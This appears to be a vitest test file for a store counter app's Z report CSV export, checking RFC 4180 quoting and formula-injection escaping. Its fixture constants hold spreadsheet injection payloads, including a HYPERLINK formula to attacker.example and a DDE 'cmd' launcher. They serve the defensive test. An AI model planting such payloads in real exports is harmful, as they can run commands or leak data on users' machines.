// The Z report's CSV (and the History export's, which shares the writer): RFC 4180 quoting, and nothing a
// spreadsheet would run as a formula, whoever named the package, the clerk or the reason. A hostile
// package name comes from Gigastore's inventory, a clerk and a reason from the counter; the report is made
// by the core and by the built CLI from real journal files.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../src/main/core/csv';
import { SalesJournal } from '../../src/main/core/journal/sales-journal';
import { shiftPeriod, shiftsIn } from '../../src/main/core/report/periods';
import { buildZReport } from '../../src/main/core/report/z-report';
import { zReportCsv } from '../../src/main/core/report/z-report-csv';
import { AuditTrail } from '../../src/main/core/journal/audit-trail';
import { GigastoreSimulator } from '../../src/main/simulator/server';
import { noonTimeZone, priceItem, storeCounter, wait, WINDOW_MS, type StoreCounter } from '../support/store-counters';

/** RFC 4180, strictly: fields separated by commas, records by CRLF, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let at = 0;
  while (at < text.length) {
    let field: string;
    if (text[at] === '"') {
      const closing = /^((?:[^"]|"")*)"/.exec(text.slice(at + 1));
      if (!closing) throw new Error(`an unclosed quote at ${at}`);
      field = closing[1]!.replaceAll('""', '"');
      at += closing[0].length + 1;
    } else {
      const plain = /^[^,\r\n"]*/.exec(text.slice(at))![0];
      field = plain;
      at += plain.length;
    }
    record.push(field);
    if (text[at] === ',') at += 1;
    else if (text.startsWith('\r\n', at)) {
      records.push(record);
      record = [];
      at += 2;
    } else if (at < text.length) throw new Error(`a stray character ${JSON.stringify(text[at])} at ${at}`);
  }
  if (record.length) records.push(record);
  return records;
}

const HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?x","Refund, "now"")\nline two';
const HOSTILE_CLERK = '@SUM(1+1)';
const HOSTILE_REASON = "+cmd|' /C calc'!A0";
let simulator: GigastoreSimulator;
let counter: StoreCounter;
let sellingShift: string;
let refundShift: string;

beforeAll(async () => {
  simulator = await new GigastoreSimulator({ scanDelayMs: 50 }).start();
  const item = priceItem(simulator, simulator.account.inventory[0]!, 0.2);
  item.name = HOSTILE_NAME;
  counter = storeCounter(simulator, 'VIE3-1', noonTimeZone());
  sellingShift = counter.shift('shift-start', HOSTILE_CLERK);
  const sale = await counter.sell(item, { clerk: HOSTILE_CLERK });
  await wait(20);
  // Refunded in the next shift: that shift's takings are below zero.
  refundShift = counter.shift('shift-start', 'Jon');
  await counter.refund(sale, HOSTILE_REASON, 'Jon');
  counter.shift('shift-end', 'Jon');
  await wait(2 * WINDOW_MS + 100);
}, 30_000);
afterAll(() => simulator?.close());

async function csvOf(shiftId: string): Promise<string> {
  const trail = AuditTrail.open(counter.dataDir);
  const shifts = shiftsIn(trail.list());
  trail.close();
  const journal = SalesJournal.open(counter.dataDir);
  try {
    const report = await buildZReport({
      period: shiftPeriod(shiftId, shifts, new Date(), noonTimeZone()),
      counterId: 'VIE3-1',
      storeWide: false,
      journal,
      gigastore: counter.client,
      reconciliationWindowMs: WINDOW_MS,
      now: new Date(),
    });
    return zReportCsv(report);
  } finally {
    journal.close();
  }
}

describe('the Z report as CSV', () => {
  it('every record has the 17 columns; text a spreadsheet would run is prefixed, read back exactly', async () => {
    const text = await csvOf(sellingShift);
    expect(text.endsWith('\r\n')).toBe(true);
    const records = parseCsv(text);
    expect(records.every((record) => record.length === 17)).toBe(true);
    const sale = records.find((record) => record[0] === 'sale')!;
    expect(sale[12]).toBe(`'${HOSTILE_NAME}`); // package, its quotes, comma and line break intact
    expect(sale[11]).toBe(`'${HOSTILE_CLERK}`);
    expect(sale[15]).toBe('0.20');
    expect(records.find((record) => record[0] === 'clerk')![1]).toBe(`'${HOSTILE_CLERK}`);
    expect(records.find((record) => record[0] === 'package')![1]).toBe(`'${HOSTILE_NAME}`);
    // Nothing but a plain number starts with a formula character anywhere.
    const cells = records.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
  });

  it('a shift whose takings are below zero: the amounts stay plain negative numbers', async () => {
    const records = parseCsv(await csvOf(refundShift));
    const total = records.find((record) => record[0] === 'total')!;
    expect(total.slice(2, 8)).toEqual(['USD', '0', '0.00', '1', '0.20', '-0.20']);
    const refund = records.find((record) => record[0] === 'refund')!;
    expect(refund[16]).toBe(`'${HOSTILE_REASON}`);
    expect(refund[12]).toBe(`'${HOSTILE_NAME}`);
  });

  it('the CLI’s CSV: the same records, line breaks inside a field shown as a space on the terminal', async () => {
    const result = await counter.cli(['report', '--shift', sellingShift, '--csv']);
    const records = parseCsv(`${result.stdout.trimEnd()}\r\n`);
    expect(records.every((record) => record.length === 17)).toBe(true);
    expect(records.find((record) => record[0] === 'sale')![12]).toBe(`'${HOSTILE_NAME.replace('\n', ' ')}`);
  });
});

describe('a CSV cell', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1+1', "'-1+1"],
    ['@A1', "'@A1"],
    ['\tx', "'\tx"],
    ['\rx', '"\'\rx"'],
    ['=A1,"B"', '"\'=A1,""B"""'],
    ['-4.99', '-4.99'],
    ['-12', '-12'],
    ['4.99', '4.99'],
    [-5, '-5'],
    [undefined, ''],
  ] as const)('%j is written %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });
});
